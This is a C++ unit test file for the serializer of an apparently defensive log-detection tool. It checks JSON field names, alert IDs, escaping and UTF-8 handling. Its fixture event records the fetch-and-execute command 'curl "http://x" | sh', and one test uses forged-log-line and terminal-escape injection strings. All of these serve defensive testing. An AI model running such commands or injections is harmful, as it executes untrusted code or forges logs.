#include "core/serialize.h"

#include <gtest/gtest.h>
#include <rapidjson/document.h>

namespace loghunt {
namespace {

Event ProcessEvent() {
  Event e;
  e.stream = Stream::kAuditd;
  e.kind = EventKind::kProcessStart;
  e.timestamp_ns = 1551485405594000000;
  e.host = "host1";
  e.process.pid = 42;
  e.process.ppid = 1;
  e.process.executable = "/usr/bin/curl";
  e.process.command_line = "curl \"http://x\" | sh\n";
  e.process.user = "alice";
  e.position = {"auditd", 3, 1234};
  e.extras.push_back({"auditd.key", "exec"});
  return e;
}

TEST(SerializeEvent, WritesEcsNamesAndOmitsEmpty) {
  std::string json = SerializeEvent(ProcessEvent());
  rapidjson::Document doc;
  ASSERT_FALSE(doc.Parse(json.c_str()).HasParseError()) << json;
  EXPECT_STREQ(doc["event.type"].GetString(), "process_start");
  EXPECT_STREQ(doc["event.module"].GetString(), "auditd");
  EXPECT_STREQ(doc["@timestamp"].GetString(), "2019-03-02T00:10:05.594Z");
  EXPECT_STREQ(doc["process.command_line"].GetString(), "curl \"http://x\" | sh\n");
  EXPECT_EQ(doc["process.pid"].GetInt64(), 42);
  EXPECT_EQ(doc["loghunt.position.partition"].GetInt(), 3);
  EXPECT_STREQ(doc["extra"]["auditd.key"].GetString(), "exec");
  EXPECT_FALSE(doc.HasMember("destination.ip"));
  EXPECT_FALSE(doc.HasMember("source.port"));
}

TEST(SerializeAlert, EmbedsEvidenceAndHasDeterministicId) {
  Event e = ProcessEvent();
  Alert a = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {"attack.t1059"}}, "k");
  Alert b = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {}}, "k");
  Alert c = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {}}, "other-key");
  EXPECT_EQ(a.id, b.id);
  EXPECT_NE(a.id, c.id);
  a.observables.push_back({"url", "http://x", "base64 > utf16le", true, ""});
  std::string json = SerializeAlert(a);
  rapidjson::Document doc;
  ASSERT_FALSE(doc.Parse(json.c_str()).HasParseError()) << json;
  EXPECT_STREQ(doc["id"].GetString(), a.id.c_str());
  EXPECT_STREQ(doc["event.severity_name"].GetString(), "high");
  EXPECT_STREQ(doc["tags"][0].GetString(), "attack.t1059");
  EXPECT_STREQ(doc["evidence"]["process.executable"].GetString(), "/usr/bin/curl");
  EXPECT_STREQ(doc["observables"][0]["decode_chain"].GetString(), "base64 > utf16le");
  EXPECT_TRUE(doc["observables"][0]["defanged"].GetBool());
  EXPECT_STREQ(doc["entities"][0]["Type"].GetString(), "Host");
}

TEST(SerializeAlert, EntitiesCarryStableIdsNamingTheThingNotItsDescription) {
  Event e = ProcessEvent();
  Alert a = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {}}, "k");
  Alert b = MakeAlert(e, {"r2", "Rule two", Severity::kLow, {}}, "other");
  a.entities.push_back({"IpAddress", {{"Address", "203.0.113.7"}}});
  b.entities.push_back({"IpAddress", {{"Address", "203.0.113.7"}, {"CountryCode", "AU"}}});
  a.entities.push_back({"FileHash", {{"Algorithm", "SHA256"}, {"Value", "ABCDEF"}}});
  b.entities.push_back({"FileHash", {{"Algorithm", "SHA256"}, {"Value", "abcdef"}}});
  a.entities.push_back({"Account", {{"Name", "root"}}});
  b.entities.push_back({"Account", {{"Name", "root"}}});
  b.host = "another-host";  // an account is one per machine
  rapidjson::Document da, db;
  std::string ja = SerializeAlert(a), jb = SerializeAlert(b);
  ASSERT_FALSE(da.Parse(ja.c_str()).HasParseError()) << ja;
  ASSERT_FALSE(db.Parse(jb.c_str()).HasParseError()) << jb;
  auto id = [](const rapidjson::Document& d, size_t i) {
    return std::string(d["entities"][static_cast<rapidjson::SizeType>(i)]["Id"].GetString());
  };
  EXPECT_EQ(id(da, 1).size(), 32u);
  EXPECT_EQ(id(da, 1), id(db, 1));  // same address, GeoIP fields aside
  EXPECT_EQ(id(da, 2), id(db, 2));  // hash values ignore case
  EXPECT_NE(id(da, 3), id(db, 3));  // root on two hosts
  EXPECT_NE(id(da, 1), id(da, 2));
  EXPECT_EQ(EntityId({"IpAddress", {{"Address", "203.0.113.7"}}}, "h"), id(da, 1));
  EXPECT_NE(EntityId({"IpAddress", {{"Address", "203.0.113.8"}}}, "h"), id(da, 1));
}

// The text format is one line per alert whatever the event holds: a
// newline in a command line made a second, forged alert line, and ESC or a
// C1 CSI reached the terminal.
TEST(SerializeAlert, TextIsOneLineWithControlsEscaped) {
  Event e = ProcessEvent();
  e.host = "h\x1b[2Jost";
  Alert a = MakeAlert(e, {"r1", "Rule\none", Severity::kHigh, {}}, "k");
  a.summary =
      "curl x\n2026-07-08T16:00:01Z critical fakehost \"Forged\" injected [0]\r\t\\ \xc2\x9b"
      "2J \xff caf\xc3\xa9";
  std::string text;
  AppendAlertText(a, &text);
  EXPECT_EQ(text.find('\n'), std::string::npos) << text;
  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
  EXPECT_NE(text.find(" high h\\x1b[2Jost \"Rule\\none\" curl x\\n2026-07-08T16:00:01Z critical"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("[0]\\r\\t\\\\ \\u009b2J \xef\xbf\xbd caf\xc3\xa9 ["), std::string::npos)
      << text;
}

TEST(SerializeEvent, EscapesControlCharacters) {
  Event e;
  e.message = std::string_view("a\0b\x01\"", 5);
  std::string json = SerializeEvent(e);
  rapidjson::Document doc;
  ASSERT_FALSE(doc.Parse(json.c_str(), json.size()).HasParseError()) << json;
  EXPECT_EQ(std::string(doc["message"].GetString(), doc["message"].GetStringLength()),
            std::string("a\0b\x01\"", 5));
}

// Log bytes that are not UTF-8 come out as U+FFFD, so every line is JSON a
// strict reader (validating the encoding) accepts.
TEST(SerializeEvent, InvalidUtf8BecomesReplacementCharacters) {
  Event e = ProcessEvent();
  e.process.user = "b\xffob";
  e.extras.push_back({"key\xfe", "v\xc3"});
  std::string json = SerializeEvent(e);
  rapidjson::Document doc;
  ASSERT_FALSE(doc.Parse<rapidjson::kParseValidateEncodingFlag>(json.c_str()).HasParseError())
      << json;
  EXPECT_STREQ(doc["process.user.name"].GetString(), "b\xef\xbf\xbdob");
  EXPECT_STREQ(doc["extra"]["key\xef\xbf\xbd"].GetString(), "v\xef\xbf\xbd");
}

}  // namespace
}  // namespace loghunt
